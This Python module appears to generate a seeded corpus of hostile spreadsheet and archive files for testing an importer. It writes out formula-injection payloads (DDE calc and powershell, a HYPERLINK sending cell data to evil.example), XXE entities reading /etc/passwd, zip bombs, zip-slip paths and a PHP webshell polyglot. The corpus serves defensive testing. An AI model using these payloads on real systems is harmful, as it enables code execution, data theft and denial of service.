"""Files that somebody could send to hurt, deceive or confuse; invented anew from a seed."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator

import openpyxl

HEADS = ["Họ tên", "Ngày sinh", "SĐT", "Đồng ý", "Ngày đồng ý", "Cách đồng ý", "Bằng chứng"]
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1",
    "@SUM(1+1)*cmd|''!A", "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1",
    "=WEBSERVICE(\"http://e.example\")",
    "=IMPORTXML(\"http://e.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1",
)  # fmt: skip


def good(draw: random.Random, **cells: object) -> bytes:
    """Return a sound little workbook, a place to put something bad in."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADS)
    row = [
        "Lê Văn A",
        "1/1/1990",
        f"0912{draw.randrange(10**6):06d}",
        "x",
        "1/11/2026",
        "giấy",
        "số 1",
    ]
    sheet.append(row)
    for cell, value in cells.items():
        sheet[cell] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(data: bytes, change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """Return a workbook with each part changed (None leaves it out) and further parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for info in old.infolist():
            body = change(info.filename, old.read(info))
            if body is not None:
                new.writestr(info.filename, body)
        for name, body in more.items():
            new.writestr(name.replace("__", "/"), body)
    return out.getvalue()


def formula(draw: random.Random) -> bytes:
    return good(draw, **{draw.choice("ABCG") + "2": draw.choice(FORMULAS[:3] + FORMULAS[7:10])})


def formula_text(draw: random.Random) -> bytes:
    mark = draw.choice(";\t")
    row = ["Lê Văn A", "1/1/1990", "0912345678", "x", "1/11/2026", "giấy", "số 1"]
    row[draw.choice((0, 6))] = draw.choice(FORMULAS)
    return ("\ufeff" + mark.join(HEADS) + "\r\n" + mark.join(row)).encode()


def formula_without_place(draw: random.Random) -> bytes:
    """A formula in a cell that does not say where it stands."""
    part = b'<c t="str"><f>WEBSERVICE("http://e.example")</f><v>x</v></c></row>'
    return changed(good(draw), lambda n, b: b.replace(b"</row>", part, 2) if "sheet1" in n else b)


def bomb(draw: random.Random) -> bytes:
    zeros = b"0" * draw.choice((160, 200)) * 1024 * 1024
    return changed(good(draw), lambda _n, b: b, xl__media__image1_bin=zeros)


def bomb_of_strings(draw: random.Random) -> bytes:
    """Many rows of one letter each: small packed, large in memory."""
    count = draw.choice((300_000, 500_000))
    cells = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * count
    return changed(
        good(draw),
        lambda n, b: b.replace(b"</sheetData>", cells + b"</sheetData>") if "sheet1" in n else b,
    )


def many_parts(draw: random.Random) -> bytes:
    return changed(good(draw), lambda _n, b: b, **{f"xl__x{n}_xml": b"<a/>" for n in range(400)})


def far_cell(draw: random.Random) -> bytes:
    return good(
        draw, **{draw.choice(("XFD1048576", "ZZZ900000", "AAA1")).replace("ZZZ", "XEZ"): "x"}
    )


def lying_size(draw: random.Random) -> bytes:
    """The directory says that a part is tiny; it is not."""
    data = bytearray(bomb_of_strings(draw))
    at = data.rfind(b"PK\x01\x02")
    while at > 0:
        data[at + 24 : at + 28] = struct.pack("<I", 100)
        at = data.rfind(b"PK\x01\x02", 0, at)
    return bytes(data)


def entities(draw: random.Random) -> bytes:
    inside = draw.choice((
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ))  # fmt: skip
    name = draw.choice(("workbook.xml", "sheet1.xml", "[Content_Types].xml", "styles.xml"))
    return changed(
        good(draw), lambda n, b: b'<?xml version="1.0"?>' + inside + b if n.endswith(name) else b
    )


def macro(draw: random.Random) -> bytes:
    if draw.random() < 0.5:
        return changed(good(draw), lambda _n, b: b, xl__vbaProject=b"\xd0\xcf\x11\xe0", **{
            "xl__vbaProject.bin": b"\xd0\xcf\x11\xe0"})  # fmt: skip
    kind = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return changed(
        good(draw),
        lambda n, b: b.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", kind
        ),
    )


def named_outside(draw: random.Random) -> bytes:
    """Parts whose names would leave a folder, were anything unpacked; the rest is no workbook."""
    name = draw.choice(
        ("..__..__etc__cron.d__x", "__etc__passwd", "C:__Windows__x", "xl__..__..__x")
    )
    return changed(good(draw), lambda n, b: None if "workbook.xml" in n else b, **{name: b"x"})


def other_kind(draw: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        kind = draw.choice(("ods", "docx", "xlsb", "zip"))
        if kind == "ods":
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            {"docx": "word/document.xml", "xlsb": "xl/workbook.bin"}.get(kind, "a"), "x"
        )
    return out.getvalue()


def no_table(draw: random.Random) -> bytes:
    return draw.choice((
        b"", b"\0" * draw.randrange(1, 5000), b"MZ" + draw.randbytes(2000),
        b"%PDF-1.7\n" + b"x" * 99,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + draw.randbytes(4000),
        b"\x7fELF" + draw.randbytes(500),
        b"<html><script>alert(1)</script><table><tr><td>x",
        b'{"a": 1}', b"\x89PNG\r\n" + b"\0" * 99,
        b"GIF89a" + b"\0" * 50 + b"<?php system($_GET[0]);",
        b"\xff\xd8\xff\xe0" + draw.randbytes(900),
        b"PK\x05\x06" + b"\0" * 18, b"Rar!\x1a\x07\0" + draw.randbytes(300), b"\xff\xfe\xff",
        "Hä tªn;Ngµy sinh".encode("latin-1"), b"a" * 13_000_000, b";" * 5_000, b"\n" * 9_000,
        b"a;b\n" * 30_000, b'"' + b"a" * 3_000_000, b"\x1f\x8b\x08" + draw.randbytes(300),
    ))  # fmt: skip


def broken(draw: random.Random) -> bytes:
    """A sound workbook with bytes overturned, cut off, or glued to something else."""
    data = bytearray(good(draw))
    how = draw.randrange(4)
    if how == 0:
        return bytes(data[: draw.randrange(10, len(data) - 30)])
    if how == 1:
        names = ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml")
        gone = draw.choice(names[:2])
        return changed(bytes(data), lambda n, b: None if n == gone else b)
    if how == 2:
        deep = b"<a>" * 200_000
        return changed(bytes(data), lambda n, b: deep if n == "xl/workbook.xml" else b)
    for _ in range(400):
        data[draw.randrange(len(data))] = draw.randrange(256)
    return bytes(data)


MAKERS: tuple[Callable[[random.Random], bytes], ...] = (
    formula, formula_text, formula_without_place, bomb, bomb_of_strings, many_parts, far_cell,
    lying_size, entities, macro, named_outside, other_kind, no_table, broken,
)  # fmt: skip


def corpus(seed: str, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield so many hostile files, each kind in turn, with its name."""
    for number in range(count):
        maker = MAKERS[number % len(MAKERS)]
        draw = random.Random(f"{seed} {number}")
        yield f"{maker.__name__} {number}", maker(draw)
